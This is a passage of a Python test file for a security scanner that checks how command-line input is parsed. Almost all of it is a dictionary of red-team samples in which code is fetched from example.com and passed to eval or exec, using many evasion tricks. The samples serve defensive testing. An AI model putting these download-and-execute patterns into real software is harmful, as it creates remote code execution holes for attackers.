"""Tests for hooks/code/parsed_arguments.py: which names hold the command line, parsed."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hooks.code.command_origin import CommandOrigins
from hooks.code.parsed_arguments import InputChanges
from tests.code.helpers import scan_code

# Two red teams' cases (stop 51): text an attacker controls (a request, a download, a computed default,
# a rebound or rewritten name, an imported object, a configuration object) reaching eval/exec; each must
# keep bandit's severity. ('rt2_' and 'rt3_' mark the second and third passes.)
HOSTILE_EVAL_SOURCES = {
    "flask_module": (
        "import flask\n"
        "app = flask.Flask(__name__)\n"
        "\n"
        '@app.route("/run")\n'
        "def run():\n"
        '    return str(eval(flask.request.args.get("code")))\n'
    ),
    "streamlit": ('import streamlit as st\nst.text_input("expr", key="expr")\nst.write(eval(st.session_state.expr))\n'),
    "class_setattr": (
        "import requests\n"
        "\n"
        "class State:\n"
        '    code = "1"\n'
        "\n"
        'setattr(State, "code", requests.get("https://example.com/c").text)\n'
        "eval(State.code)\n"
    ),
    "shadow_param": (
        "import argparse\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "def run(get_args):\n"
        "    args = get_args()\n"
        "    exec(args.code)\n"
    ),
    "rebind": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        'get_args = lambda: requests.get("https://example.com/cfg").json()\n'
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "import_rebind": (
        "import argparse\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "from remote_config import get_args\n"
        "args = get_args()\n"
        "exec(args.code)\n"
    ),
    "tyro_fn": (
        "import requests\n"
        "import tyro\n"
        "\n"
        "def fetch(url: str) -> str:\n"
        "    return requests.get(url).text\n"
        "\n"
        "code = tyro.cli(fetch)\n"
        "exec(code)\n"
    ),
    "postinit": (
        "from dataclasses import dataclass\n"
        "import pyrallis\n"
        "import requests\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    url: str = "https://example.com/snippet.py"\n'
        '    code: str = ""\n'
        "\n"
        "    def __post_init__(self):\n"
        "        self.code = requests.get(self.url).text\n"
        "\n"
        "cfg = pyrallis.parse(config_class=Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "default": (
        "from dataclasses import dataclass\n"
        "import tyro\n"
        "import requests\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = requests.get("https://example.com/snippet.py").text\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "cfgname": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        'CFG = "config.yaml"\n'
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", CFG)\n'
        "cfg = pyrallis.parse(config_class=Cfg, config_path=CFG)\n"
        "print(eval(cfg.expr))\n"
    ),
    "cfglist": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'cfg = pyrallis.parse(config_class=Cfg, args=["--config_path", "config.yaml"])\n'
        "print(eval(cfg.expr))\n"
    ),
    "hf_file": (
        "from dataclasses import dataclass, field\n"
        "from huggingface_hub import hf_hub_download\n"
        "from transformers import HfArgumentParser\n"
        "\n"
        "@dataclass\n"
        "class A:\n"
        '    expr: str = field(default="1")\n'
        "\n"
        'path = hf_hub_download("someone/repo", "train.args")\n'
        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses(args_filename=path)\n"
        "print(eval(a.expr))\n"
    ),
    "hf_args": (
        "from dataclasses import dataclass, field\n"
        "import requests\n"
        "from transformers import HfArgumentParser\n"
        "\n"
        "@dataclass\n"
        "class A:\n"
        '    expr: str = field(default="1")\n'
        "\n"
        'words = requests.get("https://example.com/args").text.split()\n'
        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses(args=words)\n"
        "print(eval(a.expr))\n"
    ),
    "fstring": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'cfg = pyrallis.parse(config_class=Cfg, config_path=f"config.yaml")\n'
        'cfg2 = pyrallis.parse(config_class=Cfg, config_path="config" + ".yaml")\n'
        "print(eval(cfg.expr))\n"
        "print(eval(cfg2.expr))\n"
    ),
    "pyrallis_bound": (
        "import requests\n"
        "\n"
        "class pyrallis:\n"
        "    @staticmethod\n"
        "    def parse(config_class=None):\n"
        '        return requests.get("https://example.com/cfg").json()\n'
        "\n"
        "cfg = pyrallis.parse()\n"
        'exec(cfg["code"])\n'
    ),
    "wrap_hostile": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        '    return p.parse_args(requests.get("https://example.com/argv").text.split())\n'
        "\n"
        "args = get_args()\n"
        "exec(args.code)\n"
    ),
    "vars_update": (
        "import requests, tyro\n"
        "from dataclasses import dataclass\n"
        "@dataclass\n"
        "class C:\n"
        '    code: str = ""\n'
        "cfg = tyro.cli(C)\n"
        'vars(cfg).update(requests.get("https://example.com/c").json())\n'
        "exec(cfg.code)\n"
    ),
    "setattr_cfg": (
        "import requests, tyro\n"
        "from dataclasses import dataclass\n"
        "@dataclass\n"
        "class C:\n"
        '    code: str = ""\n'
        "cfg = tyro.cli(C)\n"
        'setattr(cfg, "code", requests.get("https://example.com/c").text)\n'
        "exec(cfg.code)\n"
    ),
    "global_rebind": (
        "import argparse, requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "def use_remote():\n"
        "    global get_args\n"
        '    get_args = lambda: requests.get("https://example.com/c").json()\n'
        "\n"
        "use_remote()\n"
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "local_shadow": (
        "import argparse, requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "def main():\n"
        '    get_args = requests.Session().get("https://example.com/c").json\n'
        "    args = get_args()\n"
        '    exec(args["code"])\n'
    ),
    "classmethod": (
        "import requests\n"
        "\n"
        "class State:\n"
        '    code = "1"\n'
        "\n"
        "    @classmethod\n"
        "    def set(cls, text):\n"
        "        cls.code = text\n"
        "\n"
        'State.set(requests.get("https://example.com/c").text)\n'
        "eval(State.code)\n"
    ),
    "except": (
        "import requests\n"
        "try:\n"
        '    r = requests.get("https://example.com/c")\n'
        "    r.raise_for_status()\n"
        "    raise ValueError(r.text)\n"
        "except ValueError as err:\n"
        "    exec(err.args[0])\n"
    ),
    "from_import": ("from myapp.state import shared\nexec(shared.code)\n"),
    "bottle": (
        'import bottle\n\n@bottle.post("/run")\ndef run():\n    return str(eval(bottle.request.forms.get("expr")))\n'
    ),
    "ret_class": (
        "import requests\n"
        "\n"
        "class State:\n"
        '    code = "1"\n'
        "\n"
        "def get_args():\n"
        "    return State\n"
        "\n"
        'setattr(State, "code", requests.get("https://example.com/c").text)\n'
        "args = get_args()\n"
        "exec(args.code)\n"
    ),
    "import_name": ("from myapp.state import code\nexec(code)\n"),
    "for_list": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'for path in ["config.yaml"]:\n'
        "    cfg = pyrallis.parse(config_class=Cfg, config_path=path)\n"
        "    print(eval(cfg.expr))\n"
    ),
    "rt2_argparse_argv": (
        "import argparse\n"
        "import sys\n"
        "import requests\n"
        "\n"
        'sys.argv = ["x", "--code", requests.get("https://example.com/snippet.py").text]\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "exec(args.code)\n"
    ),
    "rt2_argparse_default": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code", default=requests.get("https://example.com/snippet.py").text)\n'
        "args = p.parse_args()\n"
        "exec(args.code)\n"
    ),
    "rt2_argparse_setdefaults": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.set_defaults(code=requests.get("https://example.com/snippet.py").text)\n'
        "args = p.parse_args()\n"
        "exec(args.code)\n"
    ),
    "rt2_argparse_type": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def fetch(url):\n"
        "    return requests.get(url).text\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code", type=fetch, default="https://example.com/snippet.py")\n'
        "args = p.parse_args()\n"
        "exec(args.code)\n"
    ),
    "rt2_argv_overwritten": (
        "from dataclasses import dataclass\n"
        "import sys\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        'sys.argv = ["x", "--code", requests.get("https://example.com/snippet.py").text]\n'
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_cfg_alias_mutate": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "c = cfg\n"
        'c.code = requests.get("https://example.com/snippet.py").text\n'
        "exec(cfg.code)\n"
    ),
    "rt2_cfg_append": (
        "from dataclasses import dataclass, field\n"
        "import requests\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        "    exprs: list = field(default_factory=list)\n"
        "\n"
        "cfg = pyrallis.parse(config_class=Cfg)\n"
        'cfg.exprs.append(requests.get("https://example.com/expr").text)\n'
        "print(eval(cfg.exprs[-1]))\n"
    ),
    "rt2_cfg_argparse_default": (
        "from dataclasses import dataclass\n"
        "import argparse\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--config", default="config.yaml")\n'
        "args = p.parse_args()\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        "cfg = pyrallis.parse(config_class=Cfg, config_path=args.config)\n"
        "print(eval(cfg.expr))\n"
    ),
    "rt2_cfg_field_default": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        '    next: str = "stage2.yaml"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/stage2.yaml", "stage2.yaml")\n'
        "cfg = pyrallis.parse(config_class=Cfg)\n"
        "cfg = pyrallis.parse(config_class=Cfg, config_path=cfg.next)\n"
        "print(eval(cfg.expr))\n"
    ),
    "rt2_cfg_object_setattr": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        'object.__setattr__(cfg, "code", requests.get("https://example.com/snippet.py").text)\n'
        "exec(cfg.code)\n"
    ),
    "rt2_cfg_param_mutate": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        "def fill(c):\n"
        '    c.code = requests.get("https://example.com/snippet.py").text\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "fill(cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_cfg_slice": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'CFG = "config.yaml"\n'
        'urllib.request.urlretrieve("https://example.com/config.yaml", CFG)\n'
        "cfg = pyrallis.parse(config_class=Cfg, config_path=CFG[:])\n"
        "print(eval(cfg.expr))\n"
    ),
    "rt2_cfg_store_const": (
        "from dataclasses import dataclass\n"
        "import argparse\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        "p = argparse.ArgumentParser()\n"
        "args = p.parse_args()\n"
        'args.config = "config.yaml"\n'
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        "cfg = pyrallis.parse(config_class=Cfg, config_path=args.config)\n"
        "print(eval(cfg.expr))\n"
    ),
    "rt2_dc_builtin_factory": (
        "from dataclasses import dataclass, field\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "def tuple():\n"
        '    return requests.get("https://example.com/snippet.py").text\n'
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        "    code: str = field(default_factory=tuple)\n"
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_dc_imported_decorator": (
        "import tyro\n"
        "from remote_cfg import dataclass\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_dc_nested": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Remote:\n"
        '    url: str = "https://example.com/snippet.py"\n'
        '    code: str = ""\n'
        "\n"
        "    def __post_init__(self):\n"
        "        self.code = requests.get(self.url).text\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        "    remote: Remote\n"
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.remote.code)\n"
    ),
    "rt2_dc_object_base": (
        "from dataclasses import dataclass\n"
        "import tyro\n"
        "from remote_cfg import Base as object\n"
        "\n"
        "@dataclass\n"
        "class Cfg(object):\n"
        '    code: str = ""\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_dc_own_decorator": (
        "import dataclasses\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "def dataclass(cls):\n"
        '    cls.__post_init__ = lambda self: self.__dict__.update(code=requests.get("https://example.com/c").text)\n'
        "    return dataclasses.dataclass(cls)\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_dc_patched_class": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        'Cfg.__getattribute__ = lambda self, name: requests.get("https://example.com/snippet.py").text\n'
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_direct_remote_parser": (
        "import requests\n"
        "\n"
        "class Remote:\n"
        "    def parse_args(self):\n"
        '        return requests.get("https://example.com/args").json()\n'
        "\n"
        "args = Remote().parse_args()\n"
        'exec(args["code"])\n'
    ),
    "rt2_getenv_default": (
        'import os\nimport requests\n\nprint(eval(os.getenv("EXPR", requests.get("https://example.com/expr").text)))\n'
    ),
    "rt2_hf_default": (
        "from dataclasses import dataclass, field\n"
        "import requests\n"
        "from transformers import HfArgumentParser\n"
        "\n"
        "@dataclass\n"
        "class A:\n"
        '    code: str = field(default=requests.get("https://example.com/snippet.py").text)\n'
        "\n"
        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses()\n"
        "exec(a.code)\n"
    ),
    "rt2_hf_imported": (
        "from transformers import HfArgumentParser\n"
        "from remote_settings import RemoteArgs\n"
        "\n"
        "(a,) = HfArgumentParser(RemoteArgs).parse_args_into_dataclasses()\n"
        "exec(a.code)\n"
    ),
    "rt2_hf_postinit": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "from transformers import HfArgumentParser\n"
        "\n"
        "@dataclass\n"
        "class A:\n"
        '    url: str = "https://example.com/snippet.py"\n'
        '    code: str = ""\n'
        "\n"
        "    def __post_init__(self):\n"
        "        self.code = requests.get(self.url).text\n"
        "\n"
        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses()\n"
        "exec(a.code)\n"
    ),
    "rt2_lib_patched": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        'tyro.cli = lambda cls: cls(code=requests.get("https://example.com/snippet.py").text)\n'
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_omega_merge_with": (
        "import requests\n"
        "from omegaconf import OmegaConf\n"
        "\n"
        "cfg = OmegaConf.from_cli()\n"
        'cfg.merge_with(requests.get("https://example.com/cfg.json").json())\n'
        "exec(cfg.code)\n"
    ),
    "rt2_omega_update": (
        "import requests\n"
        "from omegaconf import OmegaConf\n"
        "\n"
        "cfg = OmegaConf.from_cli()\n"
        'OmegaConf.update(cfg, "code", requests.get("https://example.com/snippet.py").text)\n'
        "exec(cfg.code)\n"
    ),
    "rt2_wrap_code_swap": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "def remote():\n"
        '    return requests.get("https://example.com/c").json()\n'
        "\n"
        "get_args.__code__ = remote.__code__\n"
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "rt2_wrap_dunder_globals": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        'get_args.__globals__["get_args"] = lambda: requests.get("https://example.com/c").json()\n'
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "rt2_wrap_globals_alias": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "g = globals\n"
        'g()["get_args"] = lambda: requests.get("https://example.com/c").json()\n'
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "rt2_wrap_remote_parser": (
        "import requests\n"
        "\n"
        "class Remote:\n"
        "    def parse_args(self):\n"
        '        return requests.get("https://example.com/args").json()\n'
        "\n"
        "def get_args():\n"
        "    return Remote().parse_args()\n"
        "\n"
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "rt2_wrap_sysmodules": (
        "import argparse\n"
        "import sys\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        'setattr(sys.modules[__name__], "get_args", lambda: requests.get("https://example.com/c").json())\n'
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "rt2_alias_setattr_argparse": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "a = args\n"
        'setattr(a, "code", requests.get("https://example.com/snippet.py").text)\n'
        "exec(args.code)\n"
    ),
    "rt2_alias_setattr_tyro": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "c = cfg\n"
        'setattr(c, "code", requests.get("https://example.com/snippet.py").text)\n'
        "exec(cfg.code)\n"
    ),
    "rt2_builtins_factory": (
        "from dataclasses import dataclass, field\n"
        "import builtins\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        'builtins.list = lambda: requests.get("https://example.com/snippet.py").text\n'
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        "    code: str = field(default_factory=list)\n"
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_class_init_patch": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        'def _init(self, code=""):\n'
        '    self.code = requests.get("https://example.com/snippet.py").text\n'
        "\n"
        "Cfg.__init__ = _init\n"
        "cfg = pyrallis.parse(config_class=Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_environ_code": (
        "import os\n"
        "import requests\n"
        'os.environ["CODE"] = requests.get("https://example.com/snippet.py").text\n'
        'exec(os.environ["CODE"])\n'
    ),
    "rt2_environ_set_cfg": (
        "from dataclasses import dataclass\n"
        "import os\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'os.environ["CFG"] = "config.yaml"\n'
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'cfg = pyrallis.parse(config_class=Cfg, config_path=os.environ["CFG"])\n'
        "print(eval(cfg.expr))\n"
    ),
    "rt2_environ_setdefault_cfg": (
        "from dataclasses import dataclass\n"
        "import os\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'cfg = pyrallis.parse(config_class=Cfg, config_path=os.environ.setdefault("CFG", "config.yaml"))\n'
        "print(eval(cfg.expr))\n"
    ),
    "rt2_hf_custom": (
        "import requests\n"
        "\n"
        "class Loader:\n"
        "    def parse_args_into_dataclasses(self):\n"
        '        return requests.get("https://example.com/args").json()\n'
        "\n"
        "a = Loader().parse_args_into_dataclasses()\n"
        'exec(a["code"])\n'
    ),
    "rt2_hf_tuple_index": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "from transformers import HfArgumentParser\n"
        "\n"
        "@dataclass\n"
        "class A:\n"
        '    code: str = ""\n'
        "    def __post_init__(self):\n"
        '        self.code = requests.get("https://example.com/c").text\n'
        "\n"
        "a = HfArgumentParser(A).parse_args_into_dataclasses()[0]\n"
        "exec(a.code)\n"
    ),
    "rt2_omega_fromcli_argv": (
        "import sys\n"
        "import requests\n"
        "from omegaconf import OmegaConf\n"
        "\n"
        'sys.argv[1:] = requests.get("https://example.com/args").text.split()\n'
        "cfg = OmegaConf.from_cli()\n"
        "exec(cfg.code)\n"
    ),
    "rt2_omega_fromcli_argv_extend": (
        "import sys\n"
        "import requests\n"
        "from omegaconf import OmegaConf\n"
        "\n"
        'sys.argv.extend(requests.get("https://example.com/args").text.split())\n'
        "cfg = OmegaConf.from_cli()\n"
        "exec(cfg.code)\n"
    ),
    "rt2_ops": (
        "import argparse\n"
        "import requests\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--a")\n'
        "args = p.parse_args()\n"
        'd = requests.get("https://example.com/x").text\n'
        "eval(max(args.a, d))\n"
        "eval(sorted(d)[0])\n"
        "eval([args.a, d][1])\n"
        'eval(sum([d], ""))\n'
        "eval(min(args.a, key=lambda s: d))\n"
        "eval(args.a if d else d)\n"
        "eval((args.a, d)[1])\n"
    ),
    "rt2_postinit_attr_assign": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "def list(self):\n"
        '    self.code = requests.get("https://example.com/snippet.py").text\n'
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "    __post_init__ = list\n"
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_reinit_argparse": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        'args.__init__(code=requests.get("https://example.com/snippet.py").text)\n'
        "exec(args.code)\n"
    ),
    "rt2_reinit_tyro": (
        "from dataclasses import dataclass\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = ""\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        'cfg.__init__(code=requests.get("https://example.com/snippet.py").text)\n'
        "exec(cfg.code)\n"
    ),
    "rt2_suppress_argparse": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code", default=argparse.SUPPRESS)\n'
        'argparse.Namespace.code = requests.get("https://example.com/snippet.py").text\n'
        "args = p.parse_args()\n"
        "exec(args.code)\n"
    ),
    "rt2_tyro_constructor": (
        "from dataclasses import dataclass\n"
        "from typing import Annotated\n"
        "import requests\n"
        "import tyro\n"
        "\n"
        "def fetch(url: str) -> str:\n"
        "    return requests.get(url).text\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        "    code: Annotated[str, tyro.conf.arg(constructor=fetch)]\n"
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "rt2_ap_append": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--expr", action="append", default=[])\n'
        "args = p.parse_args()\n"
        'args.expr.append(requests.get("https://example.com/expr").text)\n'
        "print(eval(args.expr[-1]))\n"
    ),
    "rt2_ap_object_setattr": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        'object.__setattr__(args, "code", requests.get("https://example.com/snippet.py").text)\n'
        "exec(args.code)\n"
    ),
    "rt2_cfg_argparse_words": (
        "from dataclasses import dataclass\n"
        "import argparse\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--config")\n'
        'args = p.parse_args(["--config", "config.yaml"])\n'
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        "cfg = pyrallis.parse(config_class=Cfg, config_path=args.config)\n"
        "print(eval(cfg.expr))\n"
    ),
    "rt3_alias_append": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "y = x\n"
        "y.append(d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_augassign": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "x += [d]\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_bound_method": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "add = x.append\n"
        "add(d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_class_attr": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "class C:\n"
        "    items = x\n"
        "C.items.append(d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_default_alias": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "def fill(l=x):\n"
        "    l.append(d)\n"
        "fill()\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_dict_holder": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "holder = dict(k=x)\n"
        'holder["k"].append(d)\n'
        'exec("\\n".join(x))\n'
    ),
    "rt3_display_holder": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "holder = [x]\n"
        "holder[0].append(d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_for_alias": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "for l in [x]:\n"
        "    l.append(d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_for_target": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "for x[0] in [d]:\n"
        "    pass\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_for_tuple_target": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "for x[0], _ in [(d, 1)]:\n"
        "    pass\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_forloop_exec": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "y = x\n"
        "y.append(d)\n"
        "for s in x:\n"
        "    exec(s)\n"
    ),
    "rt3_func_param": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "def fill(l):\n"
        "    l.append(d)\n"
        "fill(x)\n"
